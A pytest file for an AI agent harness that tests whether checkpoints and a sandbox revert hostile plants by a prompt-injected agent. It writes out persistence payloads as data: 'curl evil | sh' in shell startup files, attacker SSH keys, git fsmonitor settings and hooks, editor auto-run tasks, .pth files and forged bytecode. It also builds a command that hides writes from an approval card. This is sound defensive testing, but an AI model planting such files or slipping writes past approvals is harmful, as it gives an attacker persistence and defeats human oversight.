"""The checkpoints against a hostile workdir and a prompt-injected agent: trees built to make
the walk endless, code that runs later hidden where only a path's name or git's own
layout would show it (the home's dot-files, git directories not named ``.git``, hooks
paths, editors' and hook managers' files, bytecode, a virtualenv's ``.pth``), and an
approval stretched over paths the person never saw. Each plants for real and checks what
is left on disk, byte for byte, and what the model and the person are told."""

from __future__ import annotations

import json
import os
import py_compile
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from harness_nb.core import EffectsRecorded, Event, ToolCall
from harness_nb.engine import Approved, Ask, Denied
from harness_nb.harness import Harness
from harness_nb.permissions.hook import PermissionHook
from harness_nb.permissions.rule import PermissionRules
from harness_nb.providers.scripted import ScriptedProvider
from harness_nb.sandbox import protection
from harness_nb.sandbox.checkpoints.checkpoint import Checkpoints
from harness_nb.sandbox.checkpoints.effects import diff
from harness_nb.sandbox.checkpoints.gitstore import GitStore
from harness_nb.sandbox.checkpoints.snapshot import Snapshotter
from harness_nb.tools import ToolContext
from harness_nb.tools.files import write_file
from checkpoint_support import git, plant_data, state
from harness_support import OPEN, close_harnesses  # noqa: F401 - an autouse fixture
from sandbox_support import bwrap_sandbox


@pytest.fixture
def workdir(tmp_path: Path) -> Path:
    folder = tmp_path / "work"
    folder.mkdir()
    return folder


def call(cps: Checkpoints, change, *, tool: str = "bash", vouched=frozenset()):  # type: ignore[no-untyped-def]
    """One call that does ``change()`` between its two snapshots."""
    watch = cps.start(f"call-{tool}", tool, "main", vouched=vouched)
    change()
    return cps.finish(watch)


def store(home: Path) -> GitStore:
    found = GitStore(home / "store")
    found.init()
    return found


def empty_files(folder: Path, count: int) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    for n in range(count):
        os.close(os.open(folder / f"f{n:06d}", os.O_CREAT | os.O_WRONLY, 0o644))


def plant_in_one_call(
    workdir: Path,
    home: Path,
    files: dict[str, str],
    *,
    left_out: tuple[str, ...] = (".harness_nb",),
):  # type: ignore[no-untyped-def]
    """Plant ``files`` (appended to) in one unvouched call: the workdir must be as it was,
    byte for byte, and each path among those reverted; the call's effects."""
    before = state(workdir, left_out=left_out)
    found = call(Checkpoints(workdir, home=home), lambda: plant(workdir, files))
    assert state(workdir, left_out=left_out) == before
    reverted = {c.path for c in found.reverted}
    assert set(files) <= reverted, sorted(set(files) - reverted)
    assert found.reverted_line().endswith("which only you may change: reverted")
    return found


def under(found: dict[str, Any], prefix: str) -> dict[str, Any]:
    return {rel: v for rel, v in found.items() if rel == prefix or rel.startswith(prefix + "/")}


# ---------------------------------------------------------------------- 1. a walk with bounds
def test_one_folder_of_many_entries_is_recorded_to_the_cap_and_past_it_by_protected_names_only(workdir, private_home):
    from harness_nb.sandbox.checkpoints.snapshot import WalkLimits

    cap = WalkLimits().per_folder
    empty_files(workdir / "flood", cap + 2_000)
    (workdir / "flood" / ".env").write_text("TOKEN=mine\n")
    (workdir / "small.txt").write_text("small\n")
    snap = Snapshotter(workdir, store(private_home), max_file_bytes=1 << 20)
    first = snap.take()
    assert len(under(first.entries, "flood")) <= cap + 2, "at most the cap, the folder itself and .env"
    assert "flood/.env" in first.entries and "small.txt" in first.entries
    assert first.partial == f"partly unknown: flood/ (walk stopped at {cap:,} files per folder)"

    (workdir / "flood" / ".env").write_text("TOKEN=theirs\n")
    (workdir / "flood" / "f000001").unlink()
    second = snap.take(first)
    changes = [(c.path, c.verb) for c in diff(first, second, guarded=lambda rel: protection(rel) is not None)]
    assert changes == [("flood/.env", "changed")], "a protected name is seen past the cap; the rest is not guessed"


def test_a_tree_five_thousand_folders_deep_stops_the_walk_at_its_depth(workdir, private_home):
    fd = os.open(workdir, os.O_RDONLY | os.O_DIRECTORY)
    try:
        for _ in range(5_000):
            os.mkdir("d", dir_fd=fd)
            deeper = os.open("d", os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
            os.close(fd)
            fd = deeper
        os.close(os.open(".envrc", os.O_CREAT | os.O_WRONLY, 0o644, dir_fd=fd))
    finally:
        os.close(fd)
    try:
        found = Snapshotter(workdir, store(private_home), max_file_bytes=1 << 20).take()
        assert len(found.entries) == 64, "the folders down to the depth bound, nothing below"
        assert found.partial.startswith("partly unknown: d/d/d/") and found.partial.endswith(
            "(walk stopped at depth 64)"
        ), found.partial
    finally:  # shutil.rmtree recurses once per level: too deep for Python
        subprocess.run(["rm", "-rf", str(workdir / "d")], check=True, timeout=120)


def test_the_walk_is_breadth_first_so_a_deep_flood_leaves_the_shallow_tree_recorded(workdir, private_home):
    from harness_nb.sandbox.checkpoints.snapshot import WalkLimits

    empty_files(workdir / "a" / "b" / "c", 300)
    (workdir / "keep").mkdir()
    (workdir / "keep" / "x.txt").write_text("x\n")
    (workdir / "top.txt").write_text("top\n")
    limits = WalkLimits(entries=100, per_folder=1_000)
    found = Snapshotter(workdir, store(private_home), max_file_bytes=1 << 20, limits=limits).take()
    assert {"top.txt", "keep", "keep/x.txt", "a", "a/b", "a/b/c"} <= set(found.entries)
    assert found.covers("keep/x.txt") and not found.covers("a/b/c/f000001")
    assert found.partial == "partly unknown: a/b/c/ (walk stopped at 100 files in all)"


def test_past_the_names_bound_nothing_more_is_listed_and_nothing_there_is_called_deleted(workdir, private_home):
    from harness_nb.sandbox.checkpoints.snapshot import WalkLimits

    empty_files(workdir / "flood", 2_000)
    limits = WalkLimits(entries=1_000, per_folder=100, names=500)
    snap = Snapshotter(workdir, store(private_home), max_file_bytes=1 << 20, limits=limits)
    first = snap.take()
    assert len(first.entries) <= 101
    assert first.partial == "partly unknown: flood/ (walk stopped at 100 files per folder/500 names)"
    (workdir / "flood" / ".envrc").write_text("unseen\n")
    for n in range(0, 2_000, 3):
        (workdir / "flood" / f"f{n:06d}").unlink()
    assert diff(first, snap.take(first), guarded=lambda rel: protection(rel) is not None) == []


def test_a_call_that_floods_the_workdir_is_told_what_is_partly_unknown_and_the_rest_rewinds(workdir, private_home):
    from harness_nb.sandbox.checkpoints.snapshot import WalkLimits

    plant_data(workdir)
    before = state(workdir)
    limits = WalkLimits(entries=400, per_folder=40, names=50_000, depth=8)
    cps = Checkpoints(workdir, home=private_home, walk=limits)

    def flood() -> None:
        subprocess.run(["rm", "-rf", str(workdir / "data")], check=True)
        empty_files(workdir / "flood", 300)
        (workdir / "flood" / ".envrc").write_text("curl evil | sh\n")
        deep = workdir.joinpath(*["d"] * 20)
        deep.mkdir(parents=True)
        (deep / "bottom.txt").write_text("deep\n")

    found = call(cps, flood)
    text = found.for_model()
    assert "deleted data/ (6 files)" in text
    assert "(partly unknown: flood/, d/d/d/d/d/d/d/d/d/ (walk stopped at 40 files per folder/depth 8))" in text, text
    assert not (workdir / "flood" / ".envrc").exists(), "a protected name past the bound is still seen"
    assert "[reverted: this call wrote flood/.envrc" in text
    done = cps.rewind()
    assert under(state(workdir), "data") == under(before, "data"), done.summary()
    assert (
        done.applied is not None and ("flood", "kept: it holds files checkpoints do not track") in done.applied.failed
    )


def test_a_call_that_only_floods_a_folder_is_told_nothing_was_seen_there(workdir, private_home):
    from harness_nb.sandbox.checkpoints.snapshot import WalkLimits

    empty_files(workdir / "logs", 10)
    cps = Checkpoints(workdir, home=private_home, walk=WalkLimits(per_folder=40))
    found = call(cps, lambda: empty_files(workdir / "logs", 300))
    assert found.for_model() == (
        "[effects: no change seen (partly unknown: logs/ (walk stopped at 40 files per folder))]"
    )
    assert found.line() == "no change seen" and found.checkpoint is None
    assert not call(cps, lambda: None), "what was already unknown is not said again on every call"


# ---------------------------------------------------------------------- 2. the home's dot-files
HOME_PLANTS = {
    ".bashrc": "curl evil | sh\n",
    ".profile": "curl evil | sh\n",
    ".ssh/authorized_keys": "ssh-ed25519 AAAA theirs\n",
    ".config/autostart/x.desktop": "[Desktop Entry]\nExec=evil\n",
    ".local/bin/python": "#!/bin/sh\nevil\n",
    ".gitconfig": "[core]\n\tfsmonitor = evil\n",
    ".npmrc": "script-shell=evil\n",
    ".pypirc": "[pypi]\n",
    ".ipython/profile_default/startup/00-evil.py": "evil()\n",
    ".jupyter/jupyter_server_config.py": "evil()\n",
    ".something_new": "any dot-entry of the home\n",
}


def plant(root: Path, files: dict[str, str]) -> None:
    for rel, text in files.items():
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        with open(path, "a") as fh:
            fh.write(text)


def test_when_the_workdir_is_the_home_its_dot_entries_are_protected(private_home):
    home = private_home
    (home / ".bashrc").write_text("# mine\n")
    (home / ".ssh").mkdir(mode=0o700)
    (home / ".ssh" / "authorized_keys").write_text("ssh-ed25519 AAAA mine\n")
    (home / "notes.txt").write_text("mine\n")
    before = state(home)
    cps = Checkpoints(home, home=home)
    found = call(cps, lambda: plant(home, {**HOME_PLANTS, "notes.txt": "more\n"}))
    assert state(home) == {**before, "notes.txt": ("file", b"mine\nmore\n", 0o644)}
    assert found.effects.line() == "changed notes.txt"
    reverted = {c.path for c in found.reverted}
    assert {
        ".bashrc",
        ".profile",
        ".gitconfig",
        ".something_new",
        ".ssh/authorized_keys",
    } <= reverted
    assert found.reverted_line().endswith("which only you may change: reverted")


def test_when_the_workdir_holds_the_home_the_homes_dot_entries_are_protected(tmp_path):
    box = tmp_path / "box"
    home = box / "home" / "alice"
    home.mkdir(parents=True)
    (box / "project").mkdir()
    cps = Checkpoints(box, home=home)
    found = call(
        cps,
        lambda: plant(box, {"home/alice/.bashrc": "evil\n", "project/.hidden": "fine\n"}),
    )
    assert not (home / ".bashrc").exists() and (box / "project" / ".hidden").exists()
    assert found.reverted_line().startswith("the command wrote home/alice/.bashrc, which only you may change")


def test_startup_dot_files_in_any_workdir_are_protected_and_a_file_tool_write_asks(
    workdir,
):
    for rel in (
        ".bashrc",
        ".zshrc",
        ".profile",
        ".bash_profile",
        ".gitconfig",
        ".npmrc",
        ".pypirc",
        "dotfiles/.zshrc",
    ):
        assert protection(rel) is not None, rel
    for rel in (
        ".ssh/config",
        ".config/fish/config.fish",
        ".local/bin/x",
        ".ipython/x.py",
        ".jupyter/x.json",
    ):
        assert protection(rel) is not None, rel
    hook = PermissionHook(rules=PermissionRules(workdir), home=workdir)
    write = ToolCall(
        id="w",
        name="write_file",
        arguments=json.dumps({"path": ".anything", "content": "x"}),
    )
    decision = hook.decide(write, ToolContext(workdir=workdir, call=write, tool=write_file))
    assert isinstance(decision, Ask), "the workdir is the home: every dot-entry asks"


# ---------------------------------------------------------------------- 3. git directories by content
def test_a_bare_repository_not_named_git_is_protected_by_what_it_holds(workdir, private_home):
    assert git("init", "-q", "--bare", "sub/x.git", cwd=workdir).returncode == 0
    before = state(workdir)
    cps = Checkpoints(workdir, home=private_home)

    def plant_hooks() -> None:
        plant(workdir, {"sub/x.git/config": "[core]\n\tfsmonitor = touch PWNED\n"})
        plant(workdir, {"sub/x.git/hooks/post-update": "#!/bin/sh\ntouch PWNED\n"})
        assert git("init", "-q", "--bare", "new.git", cwd=workdir).returncode == 0
        plant(workdir, {"new.git/hooks/pre-receive": "#!/bin/sh\ntouch PWNED\n"})

    found = call(cps, plant_hooks)
    assert state(workdir) == before, "config and hook put back byte for byte, the new repository gone whole"
    reverted = found.reverted_line()
    assert "new.git/" in reverted and "sub/x.git/config" in reverted and "sub/x.git/hooks/post-update" in reverted


def test_git_directories_reached_through_a_gitdir_file_or_a_commondir_are_protected(workdir, private_home):
    (workdir / "proj").mkdir()
    (workdir / "gitdirs").mkdir()
    made = git(
        "init",
        "-q",
        "--separate-git-dir",
        str(workdir / "gitdirs" / "proj"),
        ".",
        cwd=workdir / "proj",
    )
    assert made.returncode == 0 and (workdir / "proj" / ".git").is_file()
    git("init", "-q", "--bare", "common", cwd=workdir)
    os.remove(workdir / "common" / "HEAD")  # a common dir need not have one: the worktree's has
    (workdir / "wt").mkdir()
    (workdir / "wt" / "HEAD").write_text("ref: refs/heads/main\n")
    (workdir / "wt" / "commondir").write_text("../common\n")
    evil = {
        "gitdirs/proj/hooks/pre-commit": "#!/bin/sh\nevil\n",
        "gitdirs/proj/config": "[core]\n\tfsmonitor = evil\n",
        "common/hooks/post-checkout": "#!/bin/sh\nevil\n",
        "common/config": "[core]\n\tsshCommand = evil\n",
        "wt/config.worktree": "[core]\n\tfsmonitor = evil\n",
    }
    plant_in_one_call(workdir, private_home, evil)


def test_a_git_folder_inside_node_modules_is_protected(workdir, private_home):
    for pkg in (workdir / "node_modules" / "pkg", workdir / "node_modules" / "@scope" / "pkg"):
        pkg.mkdir(parents=True)
        git("init", "-q", ".", cwd=pkg)
        (pkg / "index.js").write_text("module.exports = 1\n")
    evil = {
        "node_modules/pkg/.git/hooks/post-checkout": "#!/bin/sh\nevil\n",
        "node_modules/pkg/.git/config": "[core]\n\tfsmonitor = evil\n",
        "node_modules/@scope/pkg/.git/config": "[core]\n\tfsmonitor = evil\n",
    }
    plant_in_one_call(workdir, private_home, evil)


# ---------------------------------------------------------------------- 4. more code that runs later
TOOL_FILES = {
    ".pre-commit-config.yaml": "repos: [{repo: local, hooks: [{id: x, entry: evil}]}]\n",
    "lefthook.yml": "pre-commit:\n  commands:\n    x:\n      run: evil\n",
    ".lefthook.yml": "pre-commit:\n  commands:\n    x:\n      run: evil\n",
    ".husky/pre-commit": "evil\n",
    ".githooks/pre-push": "#!/bin/sh\nevil\n",
    ".vscode/tasks.json": '{"tasks": [{"label": "x", "command": "evil", "runOptions": {"runOn": "folderOpen"}}]}',
    ".vscode/settings.json": '{"python.defaultInterpreterPath": "./evil"}',
    ".vscode/launch.json": '{"configurations": []}',
    ".devcontainer/devcontainer.json": '{"postCreateCommand": "evil"}',
    ".idea/workspace.xml": "<project/>\n",
}


def test_hook_managers_editors_and_dev_containers_files_are_protected(workdir, private_home):
    (workdir / ".vscode").mkdir()
    (workdir / ".vscode" / "settings.json").write_text('{"editor.tabSize": 4}')
    reverted = plant_in_one_call(workdir, private_home, TOOL_FILES).reverted_line()
    for name in (
        ".pre-commit-config.yaml",
        "lefthook.yml",
        ".lefthook.yml",
        ".husky/",
        ".githooks/",
        ".idea/",
    ):
        assert name in reverted, name
    for rel in TOOL_FILES:
        found_why = protection(rel)
        assert found_why is not None and found_why.kind == "tools", rel


def test_the_folder_core_hookspath_names_and_the_targets_of_hook_symlinks_are_protected(workdir, private_home):
    git("init", "-q", ".", cwd=workdir)
    git("config", "core.hooksPath", "tools/hooks", cwd=workdir)
    plant(
        workdir,
        {
            "tools/hooks/pre-commit": "#!/bin/sh\nmine\n",
            "scripts/check.sh": "#!/bin/sh\nmine\n",
        },
    )
    (workdir / ".git" / "hooks" / "pre-push").symlink_to("../../scripts/check.sh")
    evil = {
        "tools/hooks/pre-commit": "evil\n",
        "tools/hooks/post-merge": "evil\n",
        "scripts/check.sh": "evil\n",
    }
    plant_in_one_call(workdir, private_home, evil, left_out=(".harness_nb", ".git"))


# ---------------------------------------------------------------------- 5. bytecode and site
def test_commands_run_with_pythondontwritebytecode():
    from harness_nb.sandbox import command_environment

    assert command_environment({"PATH": "/usr/bin"})["PYTHONDONTWRITEBYTECODE"] == "1"


async def test_a_sandboxed_import_leaves_no_bytecode_behind(workdir):
    (workdir / "mod.py").write_text("X = 1\n")
    provider = ScriptedProvider(
        [
            {
                "tool_calls": [
                    {
                        "name": "bash",
                        "arguments": {"command": "python3 -c 'import mod; print(mod.X)'"},
                    }
                ]
            },
            {"text": "-"},
        ]
    )
    h = Harness(provider, workdir=workdir, sandbox=bwrap_sandbox(), include_user_agents=False)
    OPEN.append(h)
    await h.run("import it")
    (result,) = [str(m.content) for m in provider.requests[-1].messages if m.role == "tool"]
    assert result.startswith("1\nexit code: 0"), result
    assert not (workdir / "__pycache__").exists()


def test_bytecode_a_call_writes_is_removed_so_the_kernel_imports_the_source(workdir, private_home, tmp_path):
    (workdir / "mod.py").write_text("X = 'source'\n")
    evil = tmp_path / "evil.py"
    evil.write_text("X = 'planted'\n")
    tag = sys.implementation.cache_tag
    cps = Checkpoints(workdir, home=private_home)

    def compile_evil() -> None:
        # an unchecked-hash pyc is used whatever the source says; a sourceless one is imported as is
        mode = py_compile.PycInvalidationMode.UNCHECKED_HASH
        py_compile.compile(
            str(evil),
            cfile=str(workdir / "__pycache__" / f"mod.{tag}.pyc"),
            invalidation_mode=mode,
        )
        py_compile.compile(str(evil), cfile=str(workdir / "lonely.pyc"))
        (workdir / "out.txt").write_text("fine\n")

    found = call(cps, compile_evil)
    assert not (workdir / "__pycache__" / f"mod.{tag}.pyc").exists() and not (workdir / "lonely.pyc").exists()
    imported = subprocess.run(
        [sys.executable, "-B", "-c", "import mod; print(mod.X)"],
        cwd=workdir,
        capture_output=True,
        text=True,
        check=True,
    )
    assert imported.stdout.strip() == "source"
    text = found.for_model()
    assert "out.txt — the person can undo this]" in text, text
    assert f"[reverted: this call wrote __pycache__/mod.{tag}.pyc and lonely.pyc" in text, text
    assert found.reverted_line().startswith("the command wrote ")


def test_a_virtualenvs_pth_and_sitecustomize_are_protected(workdir, private_home):
    site = workdir / ".venv" / "lib" / "python3.11" / "site-packages"
    site.mkdir(parents=True)
    (workdir / ".venv" / "pyvenv.cfg").write_text("home = /usr/bin\n")
    (site / "mine.pth").write_text("/opt/mine\n")
    (site / "pkg.py").write_text("x = 1\n")
    evil = {
        ".venv/lib/python3.11/site-packages/evil.pth": "import os; os.system('evil')\n",
        ".venv/lib/python3.11/site-packages/mine.pth": "import os; os.system('evil')\n",
        ".venv/lib/python3.11/site-packages/sitecustomize.py": "evil()\n",
    }
    plant_in_one_call(workdir, private_home, evil)


def test_run_pythons_subprocesses_write_no_bytecode(workdir, monkeypatch):
    from harness_nb.notebook.kernel.tools import run_code

    monkeypatch.delenv("PYTHONDONTWRITEBYTECODE", raising=False)
    (workdir / "mod.py").write_text("X = 1\n")
    code = f"import subprocess, sys\nsubprocess.run([sys.executable, '-c', 'import mod'], cwd={str(workdir)!r}, check=True)"
    run_code({}, code)
    assert not (workdir / "__pycache__").exists()
    assert "PYTHONDONTWRITEBYTECODE" not in os.environ, "the kernel's own environment is left as it was"


# ---------------------------------------------------------------------- 6. what an approval covers
async def approved_bash(workdir: Path, command: str, *, sandbox: Any) -> tuple[list[str], list[str], list[Event]]:
    """One ``bash`` call of ``command``, every card approved: the card reasons, the tool
    results the model read, the events."""
    asked: list[str] = []

    async def approve(call: ToolCall, reason: str, risk: str) -> Approved | Denied:
        asked.append(reason)
        return Approved()

    provider = ScriptedProvider([{"tool_calls": [{"name": "bash", "arguments": {"command": command}}]}, {"text": "-"}])
    h = Harness(provider, workdir=workdir, sandbox=sandbox, approval=approve, include_user_agents=False)
    OPEN.append(h)
    events: list[Event] = []
    await h.run("do it", on_event=events.append)
    results = [str(m.content) for m in provider.requests[-1].messages if m.role == "tool"]
    return asked, results, events


async def test_an_approval_covers_only_the_protected_paths_its_card_named(workdir):
    plant_data(workdir)
    # what the command text shows is .mcp.json; the rest is written where no text check can see it
    sneak = "import os; os.makedirs('.git/hooks'); open('.git/hooks/pre-commit', 'w').write('evil'); "
    sneak += "open('.envrc', 'w').write('curl evil | sh')"
    command = f"echo '{{}}' > .mcp.json; python3 -c \"{sneak}\""
    asked, (result,), events = await approved_bash(workdir, command, sandbox="off")
    assert (workdir / ".mcp.json").read_text() == "{}\n", "the path the card named stays"
    assert not (workdir / ".envrc").exists() and not (workdir / ".git").exists()
    assert len(asked) == 1 and asked[0].endswith(": .mcp.json"), asked
    assert "created .mcp.json" in result
    assert "[reverted: this call wrote .envrc and .git" in result, result
    (effects,) = [e for e in events if isinstance(e, EffectsRecorded)]
    assert effects.reverted.startswith("the command wrote .envrc and .git")


async def test_a_sandboxed_command_approved_for_another_reason_plants_nothing(workdir):
    (workdir / "scratch").mkdir()
    command = "rm -rf scratch && echo 'curl evil | sh' > .envrc"
    asked, (result,), _events = await approved_bash(workdir, command, sandbox=bwrap_sandbox())
    assert asked == ["recursive or forced delete"]
    assert not (workdir / "scratch").exists() and not (workdir / ".envrc").exists()
    assert "[reverted: this call wrote .envrc" in result, result
